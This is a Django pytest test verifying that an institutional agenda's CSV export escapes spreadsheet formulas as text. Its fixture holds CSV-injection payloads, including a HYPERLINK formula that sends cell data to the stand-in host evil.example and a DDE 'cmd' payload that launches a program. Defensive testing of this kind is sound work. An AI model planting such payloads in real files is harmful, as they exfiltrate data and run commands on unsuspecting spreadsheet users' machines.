"""The institutional agenda's CSV export never hands a spreadsheet a formula."""

import csv
import io
from datetime import timedelta

import pytest
from django.utils import timezone

from comunicacio.publishing.models import Status
from institutional.models import Holder, InstitutionalCategory, InstitutionalEntry

pytestmark = pytest.mark.django_db

CSV_URL = "/ca/agenda-institucional/export.csv"


def test_formulas_typed_in_an_entry_reach_the_csv_as_text(client):
    holder = Holder.objects.create(name="=Alcaldessa", position="+Regidora", slug="alcaldessa", order=1)
    now = timezone.now()
    InstitutionalEntry.objects.create(
        holder=holder,
        start=now - timedelta(days=1),
        subject='=HYPERLINK("http://evil.example/?"&A1,"Detalls")',
        description="@SUM(A1:A2)",
        place="-2+3+cmd|' /C calc'!A0",
        participants="\t=1+1",
        interest_groups="Associació de veïns",
        status=Status.PUBLISHED,
        publish_at=now - timedelta(days=2),
        category=InstitutionalCategory.MEETING,
    )
    response = client.get(CSV_URL)
    assert response.status_code == 200
    raw = b"".join(response.streaming_content).decode("utf-8-sig")
    (row,) = csv.DictReader(io.StringIO(raw))
    assert row["subject"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Detalls")'
    assert row["description"] == "'@SUM(A1:A2)"
    assert row["place"] == "'-2+3+cmd|' /C calc'!A0"
    assert row["participants"] == "'\t=1+1"
    assert row["holder"] == "'=Alcaldessa"
    assert row["holder_position"] == "'+Regidora"
    # Cells without a formula character are unchanged.
    assert row["interest_groups"] == "Associació de veïns"
    assert row["category"] == "meeting"
